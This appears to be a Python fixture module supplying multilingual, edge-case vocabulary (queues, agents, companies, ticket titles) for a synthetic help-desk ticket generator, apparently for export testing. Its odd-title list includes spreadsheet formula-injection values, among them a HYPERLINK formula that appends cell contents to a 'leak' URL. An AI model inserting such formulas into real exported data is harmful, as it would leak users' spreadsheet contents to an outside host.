"""The words of the imaginary help desk, apart so that the code around them stays short."""

from __future__ import annotations

# State as the generator calls it -> its true type. `elsewhere` is a site's own state that no list can know.
STATE_TYPES = {
    "new": "new",
    "open": "open",
    "reminder": "pending",
    "auto": "pending",
    "successful": "closed",
    "unsuccessful": "closed",
    "cancelled": "removed",
    "merged": "merged",
    "removed": "removed",
    "elsewhere": "unknown",
}
PRIORITIES = ("1 very low", "2 low", "3 normal", "4 high", "5 very high")
QUEUES = (
    "Servicedesk::1st Level",
    "Servicedesk::2nd Level",
    "Infrastruktur::Netzwerk",
    "Infrastruktur::Server & Storage",
    "Anwendungen::SAP",
    "客户支持::账单",
    "Monitoring::Alerts",
    "Raw",
)
AGENTS = (
    "anna.schmidt",
    "jürgen.groß",
    "wang.fang",
    "m.obrien",
    "李伟",
    "анна.иванова",
    "j.núñez",
    "root@localhost",
    "ext-taylor (ACME, temp.)",
)
COMPANIES = ("Globex GmbH", "O'Neill & Søn", "北方物流有限公司", "Ибис ООО", 'Łódź "Port" S.A.', "Umbrella")
SERVICES = ("", "", "Netzwerk::VPN", "E-Mail & Kalender", "SAP::FI/CO", "Abrechnung 账单")
TYPES = ("Incident", "Service Request", "Unclassified")
CATEGORIES: dict[str, tuple[str, ...]] = {
    "Hardware": ("Notebook", "Printer", "Monitor"),
    "Software": ("Installation", "Licence", "Update"),
    "Account": ("Password reset", "New user", "Permissions"),
    "Other": ("", "Question"),
}
TITLES = (
    "Cannot log in since this morning ({n})",
    "Printer {n} does not print",
    "Drucker im Büro {n} defekt – Papierstau",
    "无法登录系统，请协助处理（工号 {n}）",
    "账单金额错误：{n} 元，客户要求退款",
    "Не работает телефон в кабинете {n}",
    "Server srv-{n} unreachable 🔥",
    'Invoice "{n}" missing; customer waits, urgent!',
    "Re: [Ticket#{n}] AW: Rückfrage zur Bestellung",
    "<b>HTML</b> in subject {n} & an ampersand",
)
ODD_TITLES = (
    "=1+{n}",
    '=HYPERLINK("http://example.com/?leak="&A1;"click")',
    "+49 30 {n} please call back",
    "-Server down- ALL users affected",
    "@all: maintenance tonight",
    "000{n}",
    "1E5",
    "2026-01-12 outage of the mail gateway",
    "e\u0301 combining accent versus é",
    "👩‍💻 family emoji and flag 🇩🇪",
    "مرحبا: مشكلة في تسجيل الدخول",
)
